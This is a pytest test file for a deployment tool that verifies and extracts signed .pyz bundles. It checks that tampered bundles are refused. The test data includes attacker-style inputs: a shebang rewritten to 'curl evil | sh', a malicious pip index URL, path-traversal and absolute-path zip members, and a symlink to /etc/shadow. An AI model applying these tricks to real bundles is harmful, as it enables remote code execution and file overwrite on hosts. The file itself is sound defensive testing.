"""Verifying and unpacking bundles, without the network: every way a .pyz can lie is refused.

The bundles here are written by the real zip writer around stand-in wheels, then rewritten
member by member the way an attacker (or a bad copy) would; `test_bundle.py` checks the same
on a real build.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from integrator.bundle import manifest as mf
from integrator.bundle import pyzmain, venv
from integrator.bundle.commands import spec_json, verify
from integrator.bundle.manifest import Manifest, Target, extract_verified, verify_zip
from integrator.bundle.sign import sign_manifest
from integrator.bundle.zipapp import MAIN_PY, file_entries, host_code, package_dir, pyz_bytes, write_pyz
from integrator.errors import BundleError, HostError, UsageError
from integrator.spec import parse_spec

SPEC = parse_spec({"service": {"name": "shop", "version": "1.2.0", "entry": "shop:create_app()"}})
APP_WHEEL = "shop-1.2.0-py3-none-any.whl"
LOCK = "payload/locks/cp311-x86_64.txt"


def _members() -> dict[str, bytes | Path]:
    members: dict[str, bytes | Path] = {"__main__.py": MAIN_PY, **host_code(package_dir())}
    members.update(
        {
            mf.SPEC_PATH: spec_json(SPEC),
            f"{mf.WHEELHOUSE}/{APP_WHEEL}": b"PK\x03\x04 not really a wheel " * 50,
            f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl": b"another stand-in wheel " * 40,
            LOCK: b"shop==1.2.0 --hash=sha256:00\n",
        }
    )
    return members


def _manifest(members: dict[str, bytes | Path]) -> Manifest:
    return Manifest(
        name=SPEC.name,
        version=SPEC.version,
        source_commit="0123456789abcdef0123456789abcdef01234567",
        dirty=False,
        built_at="2026-01-01T00:00:00Z",
        builder="integrator test",
        app_wheel=APP_WHEEL,
        spec=SPEC.to_dict(),
        targets=(Target("3.11", "x86_64", "manylinux_2_28_x86_64", "2.17", LOCK),),
        files=file_entries(members),
    )


def make_bundle(path: Path, signing_key: Path | None = None) -> Path:
    members = _members()
    data = _manifest(members).to_json()
    signature = sign_manifest(data, signing_key) if signing_key else None
    write_pyz(path, members, data, signature, epoch=1767225600)
    return path


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return make_bundle(tmp_path / "shop-1.2.0.pyz")


# --- rewriting a zip the way an attacker would ---------------------------------------------

Entry = tuple[zipfile.ZipInfo, bytes]


def read_entries(path: Path) -> list[Entry]:
    with zipfile.ZipFile(path) as zf:
        return [(info, zf.read(info)) for info in zf.infolist()]


def write_entries(path: Path, entries: list[Entry], prefix: bytes = mf.SHEBANG, comment: bytes = b"") -> Path:
    buf = io.BytesIO()
    buf.write(prefix)
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as zf:
        warnings.simplefilter("ignore")  # "Duplicate name": that is the point of one case
        for info, data in entries:
            zf.writestr(info, data)
        zf.comment = comment
    path.write_bytes(buf.getvalue())
    return path


def new_info(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def with_rewritten_manifest(entries: list[Entry]) -> list[Entry]:
    """The attacker also updates manifest.json to match (possible when nothing is signed)."""
    files = {
        info.filename: data
        for info, data in entries
        if info.filename not in (mf.MANIFEST_NAME, mf.SIGNATURE_NAME)
    }
    old = Manifest.from_json(dict((i.filename, d) for i, d in entries)[mf.MANIFEST_NAME], "x")
    new = dataclasses.replace(old, files=file_entries(files))
    return [(i, d) for i, d in entries if i.filename != mf.MANIFEST_NAME] + [
        (new_info(mf.MANIFEST_NAME), new.to_json())
    ]


def flip_byte(entries: list[Entry], name_part: str) -> list[Entry]:
    out = []
    for info, data in entries:
        if name_part in info.filename:
            data = data[:10] + bytes([data[10] ^ 0x01]) + data[11:]
        out.append((info, data))
    return out


Tamper = Callable[[list[Entry]], list[Entry]]
TAMPERS: dict[str, tuple[Tamper, str]] = {
    "changed byte in a wheel": (lambda e: flip_byte(e, "dep-1.0"), "sha256 differs"),
    "changed byte in host code": (lambda e: flip_byte(e, "bundle/venv.py"), "sha256 differs"),
    "added member": (lambda e: [*e, (new_info("payload/extra.py"), b"evil")], "not in the manifest"),
    "removed member": (
        lambda e: [(i, d) for i, d in e if "dep-1.0" not in i.filename],
        "missing from the bundle",
    ),
    "member ../evil": (lambda e: [*e, (new_info("../evil"), b"x")], "'..' in path"),
    "member ../evil, manifest updated": (
        lambda e: with_rewritten_manifest([*e, (new_info("payload/../../evil"), b"x")]),
        "'..' in path",
    ),
    "absolute member /etc/x": (lambda e: [*e, (new_info("/etc/x"), b"x")], "absolute path"),
    "absolute member, manifest updated": (
        lambda e: with_rewritten_manifest([*e, (new_info("/etc/x"), b"x")]),
        "absolute path",
    ),
    "backslash member": (lambda e: [*e, (new_info("..\\evil"), b"x")], "backslash"),
    "symlink member, manifest updated": (
        lambda e: with_rewritten_manifest(
            [*e, (new_info("payload/link", stat.S_IFLNK | 0o777), b"/etc/shadow")]
        ),
        "symbolic link",
    ),
    "duplicate member": (
        lambda e: [*e, (new_info(f"{mf.WHEELHOUSE}/dep-1.0-py3-none-any.whl"), b"second copy")],
        "appears twice",
    ),
    "directory entry": (lambda e: [*e, (new_info("payload/dir/", stat.S_IFDIR | 0o755), b"")], "directory"),
    "file and directory of one name": (
        lambda e: with_rewritten_manifest([*e, (new_info("__main__.py/x"), b"x")]),
        "both a file and a directory",
    ),
    "manifest removed": (
        lambda e: [(i, d) for i, d in e if i.filename != mf.MANIFEST_NAME],
        "no manifest.json",
    ),
    "manifest not JSON": (
        lambda e: [(i, b"{" if i.filename == mf.MANIFEST_NAME else d) for i, d in e],
        "not valid JSON",
    ),
    "spec.json edited, manifest updated": (
        lambda e: with_rewritten_manifest(
            [(i, d.replace(b'"shop"', b'"evil"') if i.filename == mf.SPEC_PATH else d) for i, d in e]
        ),
        "differ",
    ),
}


@pytest.mark.parametrize("case", list(TAMPERS))
def test_each_tampering_is_refused_with_one_line_naming_the_bundle(
    bundle: Path, tmp_path: Path, case: str
) -> None:
    tamper, expected = TAMPERS[case]
    bad = write_entries(tmp_path / "bad.pyz", tamper(read_entries(bundle)))
    with pytest.raises(BundleError) as err:
        verify_zip(bad)
    message = str(err.value)
    assert expected in message, message
    assert "\n" not in message and str(bad) in message


def test_an_untouched_bundle_verifies(bundle: Path) -> None:
    manifest = verify_zip(bundle)
    assert manifest.name == "shop" and manifest.app_wheel == APP_WHEEL
    result = verify(bundle)
    assert result.exit_code == 0 and result.lines[0] == f"ok {bundle}"
    assert result.data["files"] == len(manifest.files)
    assert "signature unsigned" in " ".join(result.lines).replace("  ", " ")


def test_an_in_memory_pyz_is_reproducible_and_runs(tmp_path: Path) -> None:
    """pyz_bytes (for zips shipped but not kept, like the host tool): same input, same bytes."""
    members: dict[str, bytes | Path] = {"__main__.py": b"print('ran')\n", "pkg/data.txt": tmp_path / "data"}
    (tmp_path / "data").write_bytes(b"x" * 100)
    data = pyz_bytes(members)
    assert data == pyz_bytes(dict(reversed(members.items()))) and data.startswith(mf.SHEBANG)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.namelist() == ["__main__.py", "pkg/data.txt"] and zf.read("pkg/data.txt") == b"x" * 100
    (tmp_path / "t.pyz").write_bytes(data)
    ran = subprocess.run([sys.executable, str(tmp_path / "t.pyz")], capture_output=True, text=True)
    assert ran.stdout == "ran\n"


def test_the_rewriter_itself_keeps_a_bundle_valid(bundle: Path, tmp_path: Path) -> None:
    """So the refusals above come from the tampering, not from how the test rewrites zips."""
    verify_zip(write_entries(tmp_path / "same.pyz", read_entries(bundle)))


def test_a_changed_shebang_and_a_zip_comment_are_refused(bundle: Path, tmp_path: Path) -> None:
    entries = read_entries(bundle)
    with pytest.raises(BundleError, match="before the zip"):
        verify_zip(write_entries(tmp_path / "sh.pyz", entries, prefix=b"#!/bin/sh\ncurl evil | sh\n"))
    with pytest.raises(BundleError, match="zip comment"):
        verify_zip(write_entries(tmp_path / "c.pyz", entries, comment=b"hidden"))


def test_a_size_that_lies_is_refused(bundle: Path, tmp_path: Path) -> None:
    entries = [(i, d + b"more" if "dep-1.0" in i.filename else d) for i, d in read_entries(bundle)]
    with pytest.raises(BundleError, match=r"size \d+ differs"):
        verify_zip(write_entries(tmp_path / "bad.pyz", entries))


def test_not_a_zip_and_missing_file_are_one_line_errors(tmp_path: Path) -> None:
    junk = tmp_path / "junk.pyz"
    junk.write_bytes(b"#!/usr/bin/env python3\nprint('hi')\n")
    with pytest.raises(BundleError, match="not a bundle"):
        verify_zip(junk)
    with pytest.raises(UsageError, match="no such bundle") as missing:  # bad input: exit 2
        verify_zip(tmp_path / "absent.pyz")
    assert missing.value.exit_code == 2


def test_manifest_parsing_is_strict() -> None:
    good = json.loads(_manifest(_members()).to_json())
    assert Manifest.from_json(json.dumps(good).encode(), "b") == _manifest(_members())
    for broken, message in (
        ({**good, "format": 2}, "format 2"),
        ({**good, "surprise": 1}, "unexpected keys"),
        ({**good, "dirty": "no"}, "dirty must be a bool"),
        ({**good, "files": {"a": {"sha256": "zz", "size": 1}}}, "64 lowercase hex"),
        ({**good, "files": {"a": {"sha256": "0" * 64, "size": True}}}, "size must be a int"),
    ):
        with pytest.raises(BundleError, match=message):
            Manifest.from_json(json.dumps(broken).encode(), "b")


# --- extraction --------------------------------------------------------------------------------


def test_extract_writes_every_listed_file_below_dest_only(bundle: Path, tmp_path: Path) -> None:
    dest = tmp_path / "release"
    dest.mkdir()
    old = os.umask(0o077)  # root's umask on a hardened host must not make files unreadable
    try:
        manifest = extract_verified(bundle, dest)
    finally:
        os.umask(old)
    written = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file())
    assert written == sorted([*manifest.files, mf.MANIFEST_NAME])
    assert (dest / mf.SPEC_PATH).read_bytes() == zipfile.ZipFile(bundle).read(mf.SPEC_PATH)
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in dest.rglob("*") if p.is_file())
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o755 for p in dest.rglob("*") if p.is_dir())
    assert (dest / mf.MANIFEST_NAME).read_bytes() == zipfile.ZipFile(bundle).read(mf.MANIFEST_NAME)


def test_extract_of_a_bad_bundle_writes_nothing_anywhere(bundle: Path, tmp_path: Path) -> None:
    bad = write_entries(
        tmp_path / "bad.pyz",
        with_rewritten_manifest([*read_entries(bundle), (new_info("payload/../../escaped"), b"x")]),
    )
    dest = tmp_path / "a" / "release"
    dest.mkdir(parents=True)
    with pytest.raises(BundleError):
        extract_verified(bad, dest)
    assert list(dest.iterdir()) == [] and not (tmp_path / "escaped").exists()


def test_extract_needs_an_empty_directory(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "x").write_text("already here")
    with pytest.raises(BundleError, match="empty directory"):
        extract_verified(bundle, tmp_path)


def test_member_name_rules() -> None:
    assert mf.check_member_name("payload/wheelhouse/a.whl") is None
    for name in ("", "/abs", "C:/x", "a/../b", "a//b", "./a", "a/", "a\\b", "a\0b"):
        assert mf.check_member_name(name) is not None, name


# --- signatures ----------------------------------------------------------------------------------


def _keypair(tmp_path: Path, name: str) -> tuple[Path, Path]:
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen not installed")
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    signers = tmp_path / f"{name}.allowed"
    signers.write_text("integrator " + key.with_suffix(".pub").read_text())
    return key, signers


def test_signed_bundle_verifies_only_against_its_key(tmp_path: Path) -> None:
    key, signers = _keypair(tmp_path, "release")
    _, other_signers = _keypair(tmp_path, "other")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    result = verify(signed, allowed_signers=signers)
    assert result.data["signature"].startswith("good: ") and "integrator" in result.data["signature"]
    with pytest.raises(BundleError, match="signature is not valid"):
        verify(signed, allowed_signers=other_signers)
    assert verify(signed).data["signature"].startswith("present, not checked")
    with pytest.raises(BundleError, match="not signed"):
        verify(make_bundle(tmp_path / "plain.pyz"), allowed_signers=signers)


def test_signature_covers_every_file_through_the_manifest(tmp_path: Path) -> None:
    key, signers = _keypair(tmp_path, "release")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    # swap a wheel and rewrite the manifest to match: hashes agree, the signature does not
    forged = write_entries(
        tmp_path / "forged.pyz", with_rewritten_manifest(flip_byte(read_entries(signed), "dep-1"))
    )
    verify(forged)  # without --allowed-signers this only proves internal consistency
    with pytest.raises(BundleError, match="signature is not valid"):
        verify(forged, allowed_signers=signers)


def test_signing_names_a_missing_key(tmp_path: Path) -> None:
    with pytest.raises(BundleError, match="no such signing key"):
        sign_manifest(b"{}", tmp_path / "absent")


# --- choosing a lock, building a venv --------------------------------------------------------------


def test_pick_target_matches_python_and_machine() -> None:
    manifest = _manifest(_members())
    assert venv.pick_target(manifest, "3.11.2", "x86_64") == LOCK
    assert venv.pick_target(manifest, "3.11", "AMD64", glibc="2.36") == LOCK


def test_pick_target_names_what_the_bundle_has() -> None:
    manifest = _manifest(_members())
    with pytest.raises(
        HostError,
        match=r"no build for this host's Python 3\.9 on x86_64 \(it has: Python 3\.11 on x86_64\); rebuild",
    ):
        venv.pick_target(manifest, "3.9.18", "x86_64")
    with pytest.raises(HostError, match=r"no build for this host's Python 3\.11 on aarch64"):
        venv.pick_target(manifest, "3.11", "arm64")
    with pytest.raises(HostError, match=r"need glibc >= 2\.17, this host has 2\.12"):
        venv.pick_target(manifest, "3.11", "x86_64", glibc="2.12")


def test_pip_on_the_host_reads_no_config_and_no_index(monkeypatch: pytest.MonkeyPatch) -> None:
    env = venv.pip_env(
        {"PATH": "/usr/bin", "PIP_INDEX_URL": "http://evil", "PYTHONPATH": "/x", "HOME": "/root"}
    )
    assert env == {
        "PATH": "/usr/bin",
        "HOME": "/root",
        "PIP_CONFIG_FILE": "/dev/null",
        "PIP_NO_INPUT": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    argv = venv.install_command(Path("/r/venv"), Path("/r/payload/wheelhouse"), Path("/r/lock.txt"))
    for flag in ("--isolated", "--no-index", "--require-hashes", "--no-deps", "--only-binary"):
        assert flag in argv
    assert argv[argv.index("--find-links") + 1] == "/r/payload/wheelhouse"


def test_missing_ensurepip_names_the_debian_package() -> None:
    debian = (
        "The virtual environment was not created successfully because ensurepip is not\n"
        "available.  On Debian/Ubuntu systems, you need to install the python3-venv\n"
        "package using the following command.\n\n    apt install python3.11-venv\n"
    )
    message = venv._venv_failure("/usr/bin/python3", debian)
    assert (
        message
        == "/usr/bin/python3 cannot create a venv: ensurepip is missing; install the python3.11-venv package"
    )


def test_build_venv_refuses_an_existing_venv(tmp_path: Path) -> None:
    (tmp_path / "venv").mkdir()
    (tmp_path / "venv" / "pyvenv.cfg").write_text("")
    with pytest.raises(HostError, match="already exists"):
        venv.build_venv(tmp_path / "venv", tmp_path, tmp_path / "lock.txt")


# --- the bundle's own command line -------------------------------------------------------------------


def test_pyz_verify_runs_from_the_bundle_itself(bundle: Path) -> None:
    proc = subprocess.run([sys.executable, "-I", str(bundle), "verify"], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(f"ok {bundle}")
    for argv in (["--json", "verify"], ["verify", "--json", "--local"]):
        proc = subprocess.run([sys.executable, "-I", str(bundle), *argv], capture_output=True, text=True)
        assert json.loads(proc.stdout)["name"] == "shop"


def test_pyz_verify_of_a_tampered_copy_is_one_line_exit_1(bundle: Path, tmp_path: Path) -> None:
    bad = write_entries(tmp_path / "bad.pyz", flip_byte(read_entries(bundle), "dep-1.0"))
    proc = subprocess.run([sys.executable, "-I", str(bad), "verify"], capture_output=True, text=True)
    assert proc.returncode == 1
    assert proc.stderr.count("\n") == 1 and "sha256 differs" in proc.stderr


def test_pyz_name_verbs_default_to_the_bundles_service(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from integrator.host import commands
    from integrator.result import Result

    calls: list[tuple[str, object]] = []
    monkeypatch.setattr(commands, "status", lambda name, target: calls.append(("status", name)) or Result())
    monkeypatch.setattr(
        commands, "rollback", lambda name, target, to: calls.append(("rollback", name)) or Result()
    )
    monkeypatch.setattr(
        commands, "deploy", lambda b, t, plan_only, secrets: calls.append(("deploy", plan_only)) or Result()
    )
    assert pyzmain.main(["status"], bundle=bundle) == 0
    assert pyzmain.main(["status", "--all"], bundle=bundle) == 0
    assert pyzmain.main(["rollback", "other"], bundle=bundle) == 0
    assert pyzmain.main(["plan"], bundle=bundle) == 0
    assert calls == [("status", "shop"), ("status", None), ("rollback", "other"), ("deploy", True)]


def test_pyz_deploy_with_allowed_signers_refuses_an_unsigned_bundle(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from integrator.host import commands

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("deploy must not start")

    monkeypatch.setattr(commands, "deploy", never)
    _, signers = _keypair(tmp_path, "release")
    assert pyzmain.main(["deploy", "--allowed-signers", str(signers)], bundle=bundle) == 1
    assert "not signed" in capsys.readouterr().err


def test_deploy_checks_the_signature_before_the_bundle_goes_anywhere(tmp_path: Path) -> None:
    """`integrator deploy --allowed-signers` refuses here, so no host ever sees the bundle."""
    from integrator.host import commands
    from integrator.host.transport import SshTarget

    key, signers = _keypair(tmp_path, "release")
    _, other_signers = _keypair(tmp_path, "other")
    signed = make_bundle(tmp_path / "signed.pyz", signing_key=key)
    unreachable = SshTarget("root@127.0.0.1")  # never contacted: the check comes first
    with pytest.raises(BundleError, match="signature is not valid"):
        commands.deploy(signed, unreachable, allowed_signers=other_signers)
    with pytest.raises(BundleError, match="not signed"):
        commands.deploy(make_bundle(tmp_path / "plain.pyz"), unreachable, allowed_signers=signers)
